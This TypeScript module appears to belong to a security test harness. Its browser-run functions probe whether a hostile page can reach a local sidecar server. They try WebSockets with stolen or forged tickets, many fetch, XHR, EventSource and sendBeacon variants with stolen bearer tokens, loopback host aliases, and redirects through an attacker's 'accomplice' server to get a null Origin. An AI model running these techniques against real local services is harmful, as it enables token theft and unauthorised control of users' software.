/**
 * What a page can do to reach a server. Each function here runs in the browser, sent there as its text, and so names
 * nothing outside itself.
 */

/** Whom to attack, and with what. */
export interface Target {
  /** `http://name:port` of the sidecar. */
  readonly base: string;
  /** A server of the attacker's, of another origin than the attacking page, that redirects. */
  readonly accomplice: string;
  readonly ticket: string;
  readonly token: string;
  /** Paths to try. */
  readonly routes: readonly string[];
  /** How long to wait for what says nothing either way. */
  readonly patienceMs: number;
}

/** One thing tried, and what the page got by it that it can read or use; nothing, as a rule. */
export interface Attempt {
  readonly way: string;
  readonly gained?: string | undefined;
}

/** Opens sockets with all that could pass for a proof. For pages and workers alike. */
export async function trySockets({ base, ticket }: Target): Promise<Attempt[]> {
  const offers: Record<string, string[]> = {
    'WebSocket, no subprotocol': [],
    'WebSocket, no ticket': ['cutline.v1'],
    'WebSocket, made-up ticket': ['cutline.v1', 'ticket.AAAA'],
    'WebSocket, stolen ticket': ['cutline.v1', `ticket.${ticket}`],
  };
  const dial = (offer: string[]) =>
    new Promise<string | undefined>((resolve) => {
      const socket = new WebSocket(`${base.replace('http', 'ws')}/v1/socket`, offer);
      socket.onopen = () => resolve(`open, ${socket.protocol}`);
      socket.onerror = () => resolve(undefined);
    });
  const attempts: Attempt[] = [];
  for (const [way, offer] of Object.entries(offers)) attempts.push({ way, gained: await dial(offer) });
  return attempts;
}

/** Sends requests by script, to every route. For pages and workers alike, as far as these have the means. */
export async function tryRequests({ base, accomplice, token, routes }: Target): Promise<Attempt[]> {
  const bodies: Record<string, unknown> = {
    '/v1/pair': { client: 'evil' },
    '/v1/pair/confirm': { pairing: 'AAAA', code: 'AAAAAAAA' },
    '/v1/launch': { ticket: 'AAAA' },
  };
  const json = { 'Content-Type': 'application/json' };
  const stolen = { Authorization: `Bearer ${token}` };
  const fetches: Record<string, (body: string) => RequestInit> = {
    'fetch, cors, GET': () => ({}),
    'fetch, cors, JSON': (body) => ({ method: 'POST', headers: json, body }),
    'fetch, cors, plain text': (body) => ({ method: 'POST', body }),
    'fetch, cors, with credentials': (body) => ({
      method: 'POST',
      headers: json,
      body,
      credentials: 'include',
    }),
    'fetch, cors, GET with credentials': () => ({ credentials: 'include' }),
    'fetch, cors, stolen token': (body) => ({ method: 'POST', headers: { ...json, ...stolen }, body }),
    'fetch, cors, GET with stolen token': () => ({ headers: stolen }),
    'fetch, no-cors, GET': () => ({ mode: 'no-cors' }),
    'fetch, no-cors, plain text': (body) => ({ mode: 'no-cors', method: 'POST', body }),
    'fetch, no-cors, without a referrer': (body) => ({
      mode: 'no-cors',
      method: 'POST',
      body,
      referrerPolicy: 'no-referrer',
    }),
    'fetch, same-origin': (body) => ({ mode: 'same-origin', method: 'POST', headers: json, body }),
    'fetch, keepalive': (body) => ({ method: 'POST', headers: json, body, keepalive: true }),
    'fetch, keepalive, no-cors': (body) => ({ mode: 'no-cors', method: 'POST', body, keepalive: true }),
  };
  const say = (status: number, text: string) => `${status} ${text.slice(0, 200)}`;
  const send = async (url: string, init: RequestInit) => {
    const response = await fetch(url, init);
    return response.type === 'opaque'
      ? (await response.text()) || undefined
      : say(response.status, await response.text());
  };
  const attempts: Attempt[] = [];
  const attempt = async (way: string, act: () => Promise<string | undefined>) => {
    // A page is told of a refusal as of a network that fails.
    attempts.push({ way, gained: await act().catch(() => undefined) });
  };

  for (const path of routes) {
    const body = JSON.stringify(bodies[path] ?? {});
    for (const [way, init] of Object.entries(fetches)) {
      await attempt(`${way}: ${path}`, () => send(base + path, init(body)));
    }
    for (const [how, withCredentials] of [
      ['XMLHttpRequest', false],
      ['XMLHttpRequest with credentials', true],
    ] as const) {
      if (typeof XMLHttpRequest === 'undefined') break;
      const load = () =>
        new Promise<string>((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.open('POST', base + path);
          request.withCredentials = withCredentials;
          request.onload = () => resolve(say(request.status, request.responseText));
          request.onerror = reject;
          request.send(body);
        });
      await attempt(`${how}: ${path}`, load);
    }
    if (typeof EventSource !== 'undefined') {
      const listen = () =>
        new Promise<string>((resolve, reject) => {
          const source = new EventSource(base + path, { withCredentials: true });
          source.onopen = () => resolve('a stream');
          source.onerror = () => {
            source.close();
            reject(new Error('refused'));
          };
        });
      await attempt(`EventSource: ${path}`, listen);
    }
    if (typeof document !== 'undefined') {
      // What it returns only says that something was sent.
      await attempt(
        `sendBeacon, plain text: ${path}`,
        async () => void navigator.sendBeacon(base + path, body),
      );
      const blob = new Blob([body], { type: 'application/json' });
      await attempt(`sendBeacon, JSON: ${path}`, async () => void navigator.sendBeacon(base + path, blob));
    }
  }
  for (const name of ['127.0.0.1', '[::1]', '0.0.0.0', 'localhost.']) {
    const url = `${base.replace(/\/\/[^:]+/, `//${name}`)}/v1/pair`;
    await attempt(`fetch by the name ${name}`, () =>
      send(url, fetches['fetch, cors, JSON']!('{"client":"evil"}')),
    );
  }
  for (const status of [302, 307]) {
    const redirect = `${accomplice}/redirect?status=${status}&to=`;
    // Without CORS there is no preflight, and nothing to tell a page what it has done.
    const blind = fetches['fetch, no-cors, plain text']!;
    await attempt(`fetch, no-cors, redirected with ${status}`, () =>
      send(redirect + encodeURIComponent(`${base}/v1/pair`), blind('{"client":"evil"}')),
    );
  }
  return attempts;
}

/**
 * Has a server of another origin redirect what CORS lets through. Chromium then gives `null` for the Origin, as a
 * sandboxed frame has it, so a page can come by what such a frame can.
 */
export async function tryRedirects({ base, accomplice, token }: Target): Promise<Attempt[]> {
  const attempts: Attempt[] = [];
  for (const [path, headers] of [
    ['/v1/pair', {}],
    ['/v1/ticket', { Authorization: `Bearer ${token}` }],
    ['/v1/images', { Authorization: `Bearer ${token}` }],
    ['/metrics', { Authorization: `Bearer ${token}` }],
  ] as const) {
    for (const status of [302, 307]) {
      const url = `${accomplice}/redirect?status=${status}&to=${encodeURIComponent(base + path)}`;
      const init = { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers } };
      const gained = await fetch(
        url,
        path === '/metrics' ? { headers } : { ...init, body: '{"client":"evil"}' },
      )
        .then(async (response) => `${response.status} ${(await response.text()).slice(0, 200)}`)
        .catch(() => undefined);
      attempts.push({ way: `fetch, cors, redirected with ${status}: ${path}`, gained });
    }
  }
  return attempts;
}
